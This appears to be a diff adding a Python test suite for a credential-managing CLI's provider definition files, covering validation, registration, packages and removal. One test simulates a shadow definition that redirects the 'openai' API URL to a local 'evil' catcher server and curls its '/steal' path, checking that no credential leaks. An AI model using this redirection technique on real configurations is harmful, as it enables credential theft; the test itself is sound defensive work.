@@ -1,0 +1,160 @@
+"""Definitions as files: dropped, broken, registered, overridden, packaged, removed (CL-10, PK-06)."""
+import json, re, socket, ssl
+from harness import *
+
+API_KEY = {"auth_type": "api_key", "flow": "api_key", "api_url": "api.acme.example", "api_key": {"header_name": "X-Acme-Key", "header_prefix": ""}}
+
+
+def drop(world, name, text):
+    directory = world.home / "providers"
+    directory.mkdir(parents=True, exist_ok=True)
+    world.home.chmod(0o700)
+    directory.chmod(0o700)
+    (directory / f"{name}.json").write_text(text if isinstance(text, str) else json.dumps({"schema_version": 1, "name": name, "display_name": name.title(), **text}))
+
+
+def listed(world):
+    return {p["name"]: p for p in json.loads(world.run("list", "--json").stdout)["providers"]}
+
+
+def a_dropped_file_works_at_once_and_a_broken_one_hides_nothing(world):
+    catalogue = listed(world)
+    drop(world, "acme", API_KEY)
+    key = world.canaries.new("key")
+    world.run("login", "acme", "--input", "stdin", stdin=key)
+    for name, text in {"cut": '{"schema_version": 1,', "empty": "", "wrong": {**API_KEY, "flow": "nonsense"}, "list": "[]", "binary": "\x00\x01"}.items():
+        drop(world, name, text)
+    now = listed(world)
+    equal(sorted(set(now) - set(catalogue)), ["acme", "binary", "cut", "empty", "list", "wrong"], "listed")
+    equal(sorted(n for n, p in now.items() if "problem" in p), ["binary", "cut", "empty", "list", "wrong"], "with a problem")
+    warnings = world.run("list").stderr
+    for name in ("cut", "empty", "wrong", "list", "binary"):
+        contains(warnings, f"{name}: ", "the warning names the file")
+        check(world.run("login", name, "--input", "stdin", stdin="x", code=4).stderr, "login says what is wrong")
+    equal(world.run("get", "acme", "--field", "status").stdout, "connected\n", "the good one")
+
+
+def register_shows_every_mistake_at_once(world):
+    file = world.directory / "bad.json"
+    file.write_text('{\n  // a comment\n  "schema_version": 1,\n  "name": "Bad Name",\n  "auth_type": "api_key",\n  "flow": "nonsense",\n  "api_url": 7,\n  "nosuch": true\n}\n')
+    result = world.run("register", file, "--yes", code=4)
+    for pointer, line in (("/name", 4), ("/flow", 6), ("/api_url", 7), ("/display_name", None)):
+        check(re.search(rf"error: {pointer} \(line {line or r'[0-9]+'}, column [0-9]+\): .{{10,}}", result.stderr), f"{pointer} is not reported: {result.stderr}")
+    findings = json.loads(world.run("register", file, "--yes", "--json", code=4).stdout)["findings"]
+    check({"/name", "/flow", "/api_url"} <= {f["pointer"] for f in findings if f["severity"] == "error"}, f"{findings}")
+    check(all(f["line"] >= 1 and f["column"] >= 1 and f["message"] for f in findings), "places")
+    check(not (world.home / "providers").exists() or not list((world.home / "providers").iterdir()), "nothing is written")
+
+
+def what_inspect_prints_registers_again(world):
+    for name in ("github", "openai", "twilio", "telegram"):
+        if name not in listed(world):
+            continue
+        text = world.run("inspect", name).stdout
+        world.run("register", "-", "--yes", stdin=text)
+        equal(world.run("inspect", name).stdout, text, f"{name} after the round trip")
+        entry = listed(world)[name]
+        equal((entry["source"], entry["overrides_bundled"]), ("custom", True), name)
+        world.run("remove", name, "--yes")
+        equal(listed(world)[name]["source"], "bundled", "remove leaves the bundled definition")
+
+
+class Catcher(threading.Thread):
+    """Takes whatever comes: bytes before and, if TLS can be had, within TLS."""
+
+    def __init__(self, world):
+        super().__init__(daemon=True)
+        world.certificates()
+        self.context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+        self.context.load_cert_chain(world.cert, world.key)
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.port, self.caught, self.connections = self.socket.getsockname()[1], b"", 0
+        self.start()
+
+    def run(self):
+        while True:
+            try:
+                connection, _ = self.socket.accept()
+            except OSError:
+                return
+            self.connections += 1
+            with contextlib.suppress(OSError), self.context.wrap_socket(connection, server_side=True) as tls:
+                tls.settimeout(5)
+                data = b""
+                while b"\r\n\r\n" not in data and (piece := tls.recv(4096)):
+                    data += piece
+                self.caught += data
+                tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+
+
+def CL10_PK06_a_shadow_definition_gets_no_credential(world):
+    good, evil = Catcher(world), Catcher(world)
+    bundled = json.loads(world.run("inspect", "openai").stdout)
+    key = world.canaries.new("key", "sk-")
+    # Made with the bundled definition itself.
+    world.run("login", "openai", "--input", "stdin", stdin=key)
+    equal(world.run("get", "openai", "--field", "status").stdout, "connected\n", "status")
+    drop(world, "openai", json.dumps({**bundled, "api_url": f"https://127.0.0.1:{evil.port}/"}))
+    equal(listed(world)["openai"]["source"], "custom", "the custom file wins")
+    equal(world.run("get", "openai", "--field", "status").stdout, "suspended\n", "status under the shadow")
+    equal(listed(world)["openai"]["connections"][0]["status"], "suspended", "list")
+    answer = world.run("run", "--", "curl", "-sS", "-k", "-o", "/dev/null", "-w", "%{http_code}", f"https://127.0.0.1:{evil.port}/steal", code=None)
+    check("424" in answer.stdout, f"the proxy answers 424: {answer.stdout} {answer.stderr}")
+    check(key.encode() not in evil.caught and not world.canaries.find_in(evil.caught), "the catcher got the secret")
+    refused = world.run("confirm", "openai", code=2)
+    contains(refused.stderr, "+ /api_url: ", "the difference")
+    contains(refused.stderr, str(evil.port), "the new value")
+    contains(refused.stderr, "- /api_url: ", "the old value")
+    equal(world.run("get", "openai", "--field", "status").stdout, "suspended\n", "an unanswered confirmation changes nothing")
+    # The human meant it, with another host.
+    drop(world, "openai", json.dumps({**bundled, "api_url": f"https://127.0.0.1:{good.port}/"}))
+    contains(world.run("confirm", "openai", "--yes").stdout, "Confirmed 1 connection of openai.", "confirm")
+    equal(world.run("get", "openai", "--field", "status").stdout, "connected\n", "status once confirmed")
+    equal(world.run("run", "--", "curl", "-sS", f"https://127.0.0.1:{good.port}/").stdout, "ok", "it works again")
+    check(key.encode() in good.caught, "the confirmed host gets the credential")
+    check(not world.canaries.find_in(evil.caught), "the catcher got the secret")
+    print(f"catcher: {evil.connections} connections, {len(evil.caught)} bytes, no secret")
+
+
+def packages_register_and_remove(world):
+    packages = sorted((ROOT.parent / "shared/peers/afps-v1").glob("*.afps"))
+    if not packages:
+        import zipfile
+        manifest = {"name": "@acme/boxed", "version": "1.0.0", "type": "provider", "schemaVersion": "1.0", "displayName": "Boxed",
+                    "definition": {"authMode": "api_key", "credentials": {"schema": {"type": "object", "properties": {"api_key": {"type": "string"}}, "required": ["api_key"]},
+                                                                          "fieldName": "api_key"}, "credentialHeaderName": "X-Key", "authorizedUris": ["https://api.boxed.example/*"]}}
+        packages = [world.directory / "boxed.afps"]
+        with zipfile.ZipFile(packages[0], "w") as archive:
+            archive.writestr("manifest.json", json.dumps(manifest))
+    problems = []
+    for package in packages:
+        before = {n for n, p in listed(world).items() if p["source"] == "custom"}
+        done = world.run("register", package, "--yes", "--json", code=None)
+        after = {n for n, p in listed(world).items() if p["source"] == "custom"}
+        if done.returncode != 0 or len(after - before) != 1:
+            problems.append(f"{package.name}: exit code {done.returncode}, {sorted(after - before)}: {done.stdout[-300:]} {done.stderr[-300:]}")
+            continue
+        name = (after - before).pop()
+        json.loads(world.run("inspect", name).stdout)
+        if package is packages[-1]:
+            world.run("remove", name, "--yes")
+            check(name not in {n for n, p in listed(world).items() if p["source"] == "custom"}, f"{name} is still there")
+    check(not problems, "\n".join(problems))
+    print(f"{len(packages)} packages")
+
+
+def remove_takes_connections_along(world):
+    drop(world, "acme", API_KEY)
+    for name in ("default", "work"):
+        world.run("login", "acme", "--input", "stdin", "--connection", name, stdin=world.canaries.new(name))
+    result = world.run("remove", "acme", "--yes")
+    contains(result.stderr, "2 connections", "what it deletes is said")
+    world.run("get", "acme", code=3)
+    check("acme" not in listed(world) and not (world.home / "providers" / "acme.json").exists(), "acme is gone")
+    drop(world, "acme", API_KEY)
+    world.run("get", "acme", code=6)
+
+
+if __name__ == "__main__":
+    main(a_dropped_file_works_at_once_and_a_broken_one_hides_nothing, register_shows_every_mistake_at_once, what_inspect_prints_registers_again,
+         CL10_PK06_a_shadow_definition_gets_no_credential, packages_register_and_remove, remove_takes_connections_along)
